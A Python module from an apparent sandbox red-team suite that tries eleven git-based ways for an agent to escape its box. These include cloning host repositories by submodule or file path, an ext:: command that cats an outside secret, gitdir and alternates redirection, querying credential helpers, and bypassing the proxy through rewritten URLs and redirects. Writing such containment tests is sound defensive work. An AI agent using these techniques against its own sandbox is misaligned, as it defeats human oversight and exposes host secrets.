"""Programs that act for the agent, turned against the machine: git above all."""

from __future__ import annotations

import contextlib
import os
import shutil
import tempfile
from collections.abc import Callable

from corral.redteam.inside.attempt import Attempt
from corral.redteam.inside.box import Box
from corral.redteam.inside.ends import Untried
from corral.redteam.inside.git import QUIET, git
from corral.redteam.inside.means import Tries, output_of

Does = Callable[[Box, str], "tuple[int, bytes]"]


def _in_repository(does: Does) -> Tries:
    """does(box, where): in a fresh repository."""

    def tries(box: Box) -> None:
        if shutil.which("git") is None:
            raise Untried("there is no git in this sandbox")
        where = tempfile.mkdtemp(dir=os.getcwd(), prefix=".redteam-git-")
        try:
            with open(f"{where}/.gitconfig", "w", encoding="utf-8") as settings:
                settings.write("[safe]\n\tdirectory = *\n")  # who owns a repository is no wall of ours
            code, said = git(box, "init", "-q", where=where)
            if code:
                raise Untried(f"git does not work: {said.decode(errors='replace')[:100]}")
            code, said = does(box, where)
            box.note(f"git ended with {code}: {said.decode(errors='replace').strip()[-160:]}")
        finally:
            with contextlib.suppress(OSError):
                shutil.rmtree(where)

    return tries


def _submodule(box: Box, where: str) -> tuple[int, bytes]:
    url = f"file://{box['host_repository']}"
    code, said = git(box, "-c", "protocol.file.allow=always", "submodule", "add", url, "sub", where=where)
    return (code, said) if code else git(box, "-C", "sub", "log", "-1", where=where)


def _clones(url: str) -> Does:
    """And reads what came."""

    def does(box: Box, where: str) -> tuple[int, bytes]:
        allowed = ("-c", "protocol.ext.allow=always", "-c", "protocol.file.allow=always")
        code, said = git(box, *allowed, "clone", "-q", box.fill(url), "copy", where=where)
        return (code, said) if code else git(box, "-C", "copy", "log", "-1", where=where)

    return does


def _alternates(box: Box, where: str) -> tuple[int, bytes]:
    with open(f"{where}/.git/objects/info/alternates", "w", encoding="utf-8") as file:
        file.write(f"{box['host_repository']}/objects\n")
    return git(box, "cat-file", "-p", box["host_commit"], where=where)


def _git_file(box: Box, where: str) -> tuple[int, bytes]:
    shutil.rmtree(f"{where}/.git")
    with open(f"{where}/.git", "w", encoding="utf-8") as file:
        file.write(f"gitdir: {box['host_repository']}\n")
    return git(box, "log", "-1", "--format=%B", where=where)


def _worktree(box: Box, where: str) -> tuple[int, bytes]:
    git(box, "config", "core.worktree", box["outside"], where=where)
    return git(box, "add", "-A", where=where)


def _helper(box: Box, where: str) -> tuple[int, bytes]:
    return output_of(
        box, "sh", "-c",
        f"printf 'protocol=https\\nhost=allowed.test\\n\\n' | git -C {where} credential fill",
        environment=QUIET,
    )  # fmt: skip


def _other_proxy(box: Box, where: str) -> tuple[int, bytes]:
    """Past the proxy, by one that the agent names."""
    return git(
        box, "-c", f"http.proxy=http://127.0.0.1:{box['forbidden_port']}",
        "ls-remote", f"http://foreign.test:{box['foreign_port']}/smuggled.git", where=where,
    )  # fmt: skip


def _rewritten(box: Box, where: str) -> tuple[int, bytes]:
    """A URL that is allowed, and is another one by the time it is used."""
    return git(
        box, "-c", f"url.http://foreign.test:{box['foreign_port']}/.insteadOf=http://allowed.test/",
        "ls-remote", "http://allowed.test/redirected.git", where=where,
    )  # fmt: skip


def _settings(box: Box, where: str) -> tuple[int, bytes]:
    return output_of(
        box, "git", "config", "--list", "--show-origin", environment={"GIT_TERMINAL_PROMPT": "0"}
    )


def _redirected(box: Box, where: str) -> tuple[int, bytes]:
    url = f"http://allowed.test:{box['allowed_port']}/redirect?to=http://foreign.test:{box['foreign_port']}/redirected"
    return git(box, "-c", "http.followRedirects=true", "ls-remote", url, where=where)


ATTEMPTS = {
    "git": [
        Attempt(
            "submodule", "clones a repository of the machine as a submodule", _in_repository(_submodule)
        ),
        Attempt("file", "clones it by its path", _in_repository(_clones("file://{host_repository}"))),
        Attempt(
            "ext",
            "has git run a program that reads it",
            _in_repository(_clones("ext::cat {outside_secret}")),
        ),
        Attempt("alternates", "borrows its objects", _in_repository(_alternates)),
        Attempt("git-file", "says that it is its own", _in_repository(_git_file)),
        Attempt("worktree", "adds a directory of the machine", _in_repository(_worktree)),
        Attempt("helper", "asks git's credential helpers", _in_repository(_helper)),
        Attempt(
            "proxy",
            "names a proxy of its own",
            _in_repository(_other_proxy),
            watches=("foreign", "forbidden"),
        ),
        Attempt("rewritten", "rewrites a URL on its way", _in_repository(_rewritten), watches=("foreign",)),
        Attempt(
            "redirected",
            "follows a redirect of a host that is allowed",
            _in_repository(_redirected),
            watches=("foreign",),
        ),
        Attempt("settings", "looks for secrets in what git is set to", _in_repository(_settings)),
    ],
}
